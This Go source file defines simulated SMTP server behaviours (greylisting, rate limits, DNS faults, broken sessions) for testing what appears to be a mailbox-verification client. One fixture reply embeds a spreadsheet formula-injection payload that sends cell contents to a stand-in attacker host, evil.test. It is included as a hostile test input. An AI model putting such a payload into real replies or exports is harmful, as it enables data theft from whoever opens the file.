package smtplab

import (
	"slices"
	"sync"
	"time"

	"rollcall/smtp"
)

// Personalities returns a copy of all built-in personalities, in groups: answers by mailbox, the same answer for
// all, greylisting, limits, refusals of us, DNS, broken ones, real ones, and hostile ones.
func Personalities() []Personality {
	return slices.Clone(personalities())
}

// personalities are made once, because some have texts of many KiB.
var personalities = sync.OnceValue(func() []Personality {
	return slices.Concat(
		family("honest", honest()), family("tls", honestTLS()), family("indifferent", indifferent()),
		family("greylist", greylisting()), family("limit", limited()), family("guard", guarded()),
		family("refusal", refusing()), family("dns", byDNS()), family("dns", byRareDNS()),
		family("broken", breaking()), family("broken", talkingNonsense()),
		ofWorld(), family("hostile", hostile()), family("hostiletls", hostileInside()),
	)
})

// family sets the family of its members.
func family(name string, members []Personality) []Personality {
	for i := range members {
		members[i].Family = name
	}
	return members
}

// honest receivers know their mailboxes and say so.
func honest() []Personality {
	return []Personality{
		{Name: "clean", About: "knows its mailboxes, with enhanced codes", Pipelining: true, UTF8: true},
		{Name: "plain", About: "the same without enhanced codes and extensions", NoEnhanced: true},
		{Name: "unavailable", About: "says of a missing mailbox what is said of senders who are kept out too", NoEnhanced: true,
			Words: Words{Mailboxes: [MailboxKinds]string{NotFound: "550 Requested action not taken: mailbox unavailable"}}},
		{Name: "nopipe", About: "the same as clean without PIPELINING", UTF8: true},
		{Name: "noutf8", About: "the same as clean without SMTPUTF8", Pipelining: true},
		{Name: "helo", About: "knows HELO only", NoEHLO: true, NoEnhanced: true},
		{Name: "heloonly", About: "refuses EHLO with 554 5.7.1 and takes HELO",
			Words: Words{EHLO: "554 5.7.1 <{hello}>: access denied"}},
		{Name: "heloagain", About: "hangs up behind EHLO, which it refuses with 501, and takes HELO", EHLOEnds: true,
			Words: Words{EHLO: "501 5.5.4 Syntax error"}},
		{Name: "exchange", About: "says 5.1.10 for an unknown mailbox", Pipelining: true, UTF8: true,
			Words: Words{Mailboxes: [MailboxKinds]string{
				NotFound: "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by lookup",
			}}},
		{Name: "multiline", About: "says everything on several lines, the point on the last",
			Pipelining: true,
			Words: Words{
				Greeting: "220-{host} speaks to you, {client}\n220-Be kind\n220 ESMTP ready",
				Mailboxes: [MailboxKinds]string{
					NotFound: "550-5.1.1 We sought {address}\n550-5.1.1 all over.\n550 5.1.1 User unknown",
					Exists:   "250-2.1.5 We looked for {address}\n250 2.1.5 and found it",
				},
			}},
		{Name: "chatty", About: "quotes the address, our names and a misleading ticket number",
			Pipelining: true,
			Words: Words{Mailboxes: [MailboxKinds]string{
				NotFound: "550 5.1.1 Dear {hello} [{client}]: <{address}> is no user (ticket 554-5.7.1-47)",
				Exists:   "250 2.1.5 Dear {hello}: <{address}> is welcome (ticket 550-5.1.1-48)",
			}}},
		{Name: "formula", About: "replies with text that a spreadsheet would run", Pipelining: true,
			Words: Words{Mailboxes: [MailboxKinds]string{
				NotFound: `550 5.1.1 =HYPERLINK("http://evil.test/?"&A1,"User unknown")`,
			}}},
		{Name: "nonascii", About: "replies with text that is no ASCII and no UTF-8", Pipelining: true,
			Words: Words{Mailboxes: [MailboxKinds]string{
				NotFound: "550 5.1.1 Empf\xe4nger unbekannt: \xff\xfe no such user",
			}}},
		{Name: "lying", About: "enhanced codes whose class contradicts the code", Hard: true,
			Words: Words{Mailboxes: [MailboxKinds]string{
				NotFound: "550 2.1.5 No such user here",
				Exists:   "250 5.1.1 Ok",
			}}},
		{Name: "barelf", About: "ends lines with LF alone", BareLF: true, Hard: true},
		{Name: "slow", About: "takes 300 ms for each turn",
			TurnDelay: 300 * time.Millisecond, Pipelining: true},
		{Name: "tarpit", About: "takes 10 ms for each byte", ByteDelay: 10 * time.Millisecond},
		{Name: "pregreet", About: "greets after a second and notes who talks before",
			GreetDelay: time.Second},
	}
}

func honestTLS() []Personality {
	return []Personality{
		{Name: "starttls", About: "offers STARTTLS with a certificate of its own", TLS: TLSSelfSigned,
			Pipelining: true, UTF8: true},
		{Name: "tlsonly", About: "refuses MAIL before STARTTLS with 530 5.7.0",
			TLS: TLSRequired, Pipelining: true},
		{Name: "tlsrefused", About: "offers STARTTLS, then says 454 to it", TLS: TLSRefused},
		{Name: "tlsbroken", About: "accepts STARTTLS, then goes on in clear", TLS: TLSBroken, Hard: true},
		{Name: "tlsstalled", About: "accepts STARTTLS, then says nothing", TLS: TLSStalled, Hard: true},
		{Name: "tlsdies", About: "hangs up right behind a good TLS handshake", TLS: TLSSelfSigned,
			AfterTLS: &Personality{BreakAt: smtp.StageGreeting, Break: BreakDrop}},
		{Name: "tlsmute", About: "breaks at MAIL under TLS", TLS: TLSSelfSigned,
			AfterTLS: &Personality{BreakAt: smtp.StageMail, Break: BreakReset}},
		{Name: "tlsinjected", About: "sends a reply in clear behind the 220 to STARTTLS", TLS: TLSInjected,
			Hard: true},
	}
}

// indifferent receivers give the same answer for every address.
func indifferent() []Personality {
	return []Personality{
		{Name: "catchall", About: "accepts every address", Pipelining: true, UTF8: true, CatchAll: true,
			Fixed: smtp.CatchAll, Reasons: []smtp.Reason{smtp.AcceptAll}},
		{Name: "cannotsay", About: "answers 252 to every address",
			Words: Words{Any: "252 2.1.5 Cannot VRFY user, but will accept message"},
			Fixed: smtp.CatchAll, Reasons: []smtp.Reason{smtp.NoRcptAnswer, smtp.AcceptAll}},
		{Name: "tempfail", About: "answers 451 4.3.0 to every address, for ever",
			Words: Words{Any: "451 4.3.0 Temporary lookup failure"}, Fixed: smtp.Unknown},
		{Name: "norelay", About: "says that it does not serve the domain",
			Words: Words{Any: wordsRelay}, Fixed: smtp.Invalid, Hard: true,
			Reasons: []smtp.Reason{smtp.DomainNotHosted}},
	}
}

func greylisting() []Personality {
	return []Personality{
		{Name: "greylist", About: "451 4.7.1 with the seconds to wait", Greylist: true,
			Pipelining: true, UTF8: true},
		{Name: "quietgrey", About: "greylists with a bare 450, no words, no time",
			Greylist: true, NoEnhanced: true,
			Words: Words{Greylist: "450 Not now"}},
		{Name: "fullgrey", About: "greylists with 452 4.2.2, the code of a full mailbox", Greylist: true,
			Words: Words{Greylist: "452 4.2.2 Greylisted, please try again in a few moments"}},
		{Name: "postscreen", About: "450 4.3.2 in the first session of a client",
			Greylist: true, PerVisit: true,
			GreetDelay: 300 * time.Millisecond,
			Words:      Words{Greylist: "450 4.3.2 Service currently unavailable"}},
	}
}

// limited receivers bound the number of questions.
func limited() []Personality {
	return []Personality{
		{Name: "onesession", About: "one session at once, 421 for more", SessionsMax: 1, Pipelining: true},
		{Name: "fewconnects", About: "20 new sessions in a minute, 421 for more", ConnectsPerMinute: 20},
		{Name: "onercpt", About: "one RCPT in a transaction, 452 4.5.3 for more",
			RcptsPerTx: 1, Pipelining: true},
		{Name: "fewrcpts", About: "three RCPTs in a transaction, 452 4.5.3 for more", RcptsPerTx: 3,
			Pipelining: true},
		{Name: "short", About: "five RCPTs in a session, then 421", RcptsPerSession: 5},
		{Name: "ratelimit", About: "three RCPTs in a second, 450 4.7.1 for more", RcptsPerSecond: 3,
			Words: Words{Limit: "450 4.7.1 Error: too many recipients from {client}, slow down"}},
	}
}

// guarded receivers act against clients that ask for many unknown addresses.
func guarded() []Personality {
	return []Personality{
		{Name: "chasquid", About: "the third error of a session is 421 and the end",
			Guard: GuardErrors, GuardAt: 3,
			Words: Words{Guard: "421 4.5.0 Too many errors, bye"}},
		{Name: "postfix", About: "after 10 errors each reply waits a second, at 20 comes 421",
			Guard:   GuardSlow,
			GuardAt: 10, Pipelining: true},
		{Name: "exim", About: "over 10 RCPTs in a transaction with under half good: refuses the rest",
			Guard: GuardHalf, GuardAt: 10, NoEnhanced: true, Pipelining: true,
			Words: Words{
				Guard:     "550 Too many bad recipients",
				Mailboxes: [MailboxKinds]string{NotFound: "550 Unrouteable address: unknown user"},
			}},
		{Name: "cisco", About: "after 25 refused in an hour: 550 for all and the end",
			Guard: GuardHarvest, GuardAt: 25,
			Words: Words{Guard: "550 Too many invalid recipients"}},
	}
}

// refusing receivers refuse us, whatever the address.
func refusing() []Personality {
	return []Personality{
		{Name: "blocked", About: "554 5.7.1 at the greeting: our address is listed",
			Words: Words{Greeting: "554 5.7.1 Service unavailable; client [{client}] blocked using zen.test"},
			Fixed: smtp.Unknown, Reasons: []smtp.Reason{smtp.SourceBlocked}},
		{Name: "policy", About: "550 5.7.1 at RCPT for everybody",
			Words: Words{Any: "550 5.7.1 Service unavailable; client host [{client}] blocked using zen.test"},
			Fixed: smtp.Unknown, Reasons: []smtp.Reason{smtp.SourceBlocked, smtp.Policy}},
		{Name: "badhello", About: "refuses our hello name",
			Words: Words{Hello: "550 5.7.1 <{hello}>: Helo command rejected: Host not found"},
			Fixed: smtp.Unknown, Reasons: []smtp.Reason{smtp.SourceIdentity, smtp.SourceBlocked}},
		{Name: "badsender", About: "refuses our return path",
			Words: Words{Mail: "550 5.1.8 Sender address rejected: Domain not found"},
			Fixed: smtp.Unknown, Reasons: []smtp.Reason{smtp.SourceIdentity, smtp.SourceBlocked}},
		{Name: "closing", About: "421 at the greeting, for ever",
			Words: Words{Greeting: wordsClosing}, Fixed: smtp.Unknown},
		{Name: "nomail", About: "521 at the greeting: a host without mail (RFC 7504)",
			Words: Words{Greeting: "521 5.3.2 {host} does not accept mail"},
			Fixed: smtp.Invalid, Reasons: []smtp.Reason{smtp.NoMailService}},
	}
}

// byDNS are decided by DNS alone, or have misleading DNS.
func byDNS() []Personality {
	noMail := []smtp.Reason{smtp.NoMailService}
	noAnswer := []smtp.Reason{smtp.DNSFailed}
	return []Personality{
		{Name: "nxdomain", About: "the domain does not exist", DNS: NoDomain,
			Fixed: smtp.Invalid, Reasons: []smtp.Reason{smtp.DomainNotFound}},
		{Name: "nodata", About: "the domain has no MX and no address", DNS: NoData,
			Fixed: smtp.Invalid, Reasons: noMail},
		{Name: "nullmx", About: "a null MX (RFC 7505)", DNS: NullMX, Fixed: smtp.Invalid, Reasons: noMail},
		{Name: "nullmxmore", About: "a null MX beside a real one", DNS: NullMXMore, Pipelining: true},
		{Name: "implicit", About: "no MX, but an address", DNS: ImplicitMX, Pipelining: true},
		{Name: "alias", About: "the domain is a CNAME", DNS: DomainAlias, Pipelining: true},
		{Name: "hostalias", About: "the MX is a CNAME", DNS: HostAlias, Pipelining: true},
		{Name: "twomx", About: "two hosts, the better one listed second", DNS: TwoMX, Pipelining: true},
		{Name: "backup", About: "the better one of two hosts goes away, and the other accepts everything", DNS: TwoMX,
			BackupAll: true, RcptsPerSession: 3, BreakAt: smtp.StageGreeting, Break: BreakDrop, Hard: true},
		{Name: "firstdown", About: "nothing listens at the better one of two hosts", DNS: FirstDown,
			Pipelining: true},
		{Name: "dnstcp", About: "answers are truncated over UDP", DNS: OnlyTCP, Pipelining: true},
		{Name: "inside", About: "the MX has private addresses only, which nobody may dial", DNS: InsideMX,
			Fixed: smtp.Invalid, Reasons: noMail},
		{Name: "unreachable", About: "nothing listens at the only host", DNS: AllDown,
			Fixed: smtp.Unknown, Reasons: []smtp.Reason{smtp.ConnectionFailed}},
		{Name: "lostmx", About: "the MX has no address", DNS: LostMX,
			Fixed: smtp.Unknown, Also: []smtp.Outcome{smtp.Invalid}},
		{Name: "aliasloop", About: "the domain is a CNAME of itself", DNS: AliasLoop,
			Fixed: smtp.Unknown, Reasons: noAnswer},
		{Name: "servfail", About: "DNS says SERVFAIL",
			DNS: ServerFails, Fixed: smtp.Unknown, Reasons: noAnswer},
		{Name: "dnsrefused", About: "DNS says REFUSED", DNS: Refuses, Fixed: smtp.Unknown, Reasons: noAnswer},
		{Name: "dnssilent", About: "DNS says nothing", DNS: Silent, Fixed: smtp.Unknown, Reasons: noAnswer},
	}
}

// byRareDNS are faults of DNS that a client must survive or give up on.
func byRareDNS() []Personality {
	return []Personality{
		{Name: "literalmx", About: "the only MX is an IP address as a name", DNS: LiteralMX,
			Fixed: smtp.Unknown, Also: []smtp.Outcome{smtp.Invalid}},
		{Name: "literalmore", About: "an MX that is an IP address beside a real one", DNS: LiteralMXMore,
			Pipelining: true},
		{Name: "manymx", About: "110 MX records", DNS: ManyMX, Pipelining: true},
		{Name: "manyaddresses", About: "an MX with 1,000 addresses, only one of which answers",
			DNS: ManyAddresses, Hard: true, Pipelining: true},
		{Name: "addressdown", About: "an MX with two addresses; nothing listens at the first",
			DNS: FirstAddressDown, Pipelining: true},
		{Name: "hostchain", About: "the MX is behind 10 CNAMEs", DNS: HostChain10, Pipelining: true},
		{Name: "hostchainlong", About: "the MX is behind 11 CNAMEs", DNS: HostChain11, Hard: true},
		{Name: "chain", About: "the domain is behind 16 CNAMEs", DNS: DomainChain16, Pipelining: true},
		{Name: "chainlong", About: "the domain is behind 17 CNAMEs", DNS: DomainChain17, Hard: true},
		{Name: "sixonly", About: "the MX has an IPv6 address only: ::1, shared by every such domain",
			DNS: OnlyIPv6, Hard: true, Pipelining: true},
		{Name: "sixinside", About: "the MX has also an IPv6 address that nobody may dial", DNS: AlsoInside,
			Pipelining: true},
	}
}

// breaking receivers end or stall a session at a stage.
func breaking() []Personality {
	at := func(name, about string, stage smtp.Stage, how Break) Personality {
		return Personality{Name: name, About: about, BreakAt: stage, Break: how, Fixed: smtp.Unknown}
	}
	flaky := at("flaky", "resets every other session at RCPT", smtp.StageRcpt, BreakReset)
	flaky.BreakEveryOther, flaky.Fixed = true, smtp.Undecided
	return []Personality{
		flaky,
		at("silent", "never greets", smtp.StageGreeting, BreakSilent),
		at("silenthello", "never answers EHLO", smtp.StageHello, BreakSilent),
		at("silentmail", "never answers MAIL", smtp.StageMail, BreakSilent),
		at("silentrcpt", "never answers RCPT", smtp.StageRcpt, BreakSilent),
		at("dropgreeting", "closes instead of greeting", smtp.StageGreeting, BreakDrop),
		at("drophello", "closes at EHLO", smtp.StageHello, BreakDrop),
		at("dropmail", "closes at MAIL", smtp.StageMail, BreakDrop),
		at("droprcpt", "closes at RCPT", smtp.StageRcpt, BreakDrop),
		at("resetgreeting", "resets instead of greeting", smtp.StageGreeting, BreakReset),
		at("resethello", "resets at EHLO", smtp.StageHello, BreakReset),
		at("resetmail", "resets at MAIL", smtp.StageMail, BreakReset),
		at("resetrcpt", "resets at RCPT", smtp.StageRcpt, BreakReset),
		at("endless", "a greeting whose lines never end", smtp.StageGreeting, BreakEndless),
		at("endlessline", "a greeting of one line that never ends", smtp.StageGreeting, BreakLine),
		at("garbage", "answers like a web server", smtp.StageGreeting, BreakGarbage),
	}
}

// talkingNonsense receivers reply to RCPT with something that is no answer.
func talkingNonsense() []Personality {
	says := func(name, about, reply string) Personality {
		return Personality{Name: name, About: about, Words: Words{Any: reply}, Fixed: smtp.Unknown}
	}
	return []Personality{
		says("badcode", "a reply code of 999", "999 5.1.1 User unknown"),
		says("nocode", "a line without a reply code", "User unknown"),
		says("go354", "354 at RCPT", "354 Go ahead"),
		says("twocodes", "the code changes within a reply", "550-5.1.1 User unknown\n250 2.1.5 Ok"),
	}
}
